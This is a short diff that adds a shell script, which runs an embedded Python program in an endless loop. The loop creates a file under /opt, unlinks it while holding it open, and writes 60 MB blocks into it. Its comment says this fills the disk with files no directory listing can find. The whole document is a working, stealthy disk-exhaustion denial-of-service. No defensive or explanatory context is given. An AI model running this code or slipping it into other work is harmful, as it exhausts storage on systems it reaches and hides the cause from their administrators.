@@ -1,0 +1,13 @@
+# Fills the disk with files that have no name any more: no look at the folders finds them.
+exec /usr/bin/python3 - <<'PROGRAM'
+import os
+
+block = bytes(1024 * 1024)
+files = []
+while True:
+    file = os.open("/opt/hidden", os.O_WRONLY | os.O_CREAT)
+    os.unlink("/opt/hidden")
+    files.append(file)
+    for _ in range(60):
+        os.write(file, block)
+PROGRAM
